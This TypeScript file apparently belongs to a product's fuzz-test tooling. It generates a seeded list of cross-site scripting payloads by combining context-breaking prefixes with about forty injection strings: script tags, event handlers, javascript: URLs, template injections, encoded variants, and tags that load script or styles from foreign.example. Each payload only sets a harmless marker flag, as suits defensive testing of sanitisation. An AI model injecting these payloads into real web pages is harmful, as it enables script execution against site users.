/** Script as whoever wants it run writes it, each of which leaves the same mark where it is run. Written for this product. */
import { Random } from '../../../../scripts/fuzz/random.ts';

const RUN = 'globalThis.ranAsCode=1';
/** Each opens something that a page may have left open before the words. */
const BEFORE = [
  '',
  '">',
  "'>",
  '</title>',
  '</textarea>',
  '</style>',
  '</script>',
  '-->',
  ']]>',
  '\\"}};',
  '\0',
  '\u2028',
  '&lt;',
];
const SCRIPTS = [
  `<script>${RUN}</script>`,
  `<ScRiPt>${RUN}</sCrIpT>`,
  `<script src="https://foreign.example/x.js"></script>`,
  `<script type=module>${RUN}</script>`,
  `<img src=x onerror=${RUN}>`,
  `<img src=x onerror="${RUN}"//`,
  `<img/src=x/onerror=${RUN}>`,
  `<svg onload=${RUN}>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<math><mtext><img src=x onerror=${RUN}></mtext></math>`,
  `<iframe srcdoc="<script>parent.ranAsCode=1</script>"></iframe>`,
  `<iframe src="javascript:parent.ranAsCode=1">`,
  `<object data="data:text/html,<script>${RUN}</script>">`,
  `<embed src="javascript:${RUN}">`,
  `<a href="javascript:${RUN}">look</a>`,
  `<a href="java\tscript:${RUN}">look</a>`,
  `<form action="javascript:${RUN}"><button>send</button></form>`,
  `<input autofocus onfocus=${RUN}>`,
  `<details open ontoggle=${RUN}>`,
  `<video><source onerror=${RUN}></video>`,
  `<body onload=${RUN}>`,
  `<marquee onstart=${RUN}>`,
  `<link rel=stylesheet href="https://foreign.example/x.css">`,
  `<style>@import "https://foreign.example/x.css";</style>`,
  `<base href="https://foreign.example/">`,
  `<meta http-equiv=refresh content="0;url=https://foreign.example/">`,
  `<template><script>${RUN}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `javascript:${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  `\${${RUN}}`,
  `{{constructor.constructor('${RUN}')()}}`,
  `{"dangerouslySetInnerHTML":{"__html":"<img src=x onerror=${RUN}>"}}`,
  `<x onclick=${RUN} style=position:fixed;inset:0>`,
  `%3Cscript%3E${RUN}%3C/script%3E`,
  `&#60;script&#62;${RUN}&#60;/script&#62;`,
  `\u003cscript\u003e${RUN}\u003c/script\u003e`,
  `\uFF1Cscript\uFF1E${RUN}\uFF1C/script\uFF1E`,
  `<scr\0ipt>${RUN}</scr\0ipt>`,
] as const;

/** As many different ones as there are asked for, at most five hundred and more; the same for the same number. */
export function payloads(count: number): readonly string[] {
  const all = BEFORE.flatMap((before) => SCRIPTS.map((script) => `${before}${script}`));
  const random = new Random('payloads');
  const first: string[] = [...SCRIPTS];
  const rest = all.slice(SCRIPTS.length).map((text) => ({ text, at: random.next() }));
  rest.sort((one, other) => one.at - other.at);
  return [...first, ...rest.map(({ text }) => text)].slice(0, count);
}
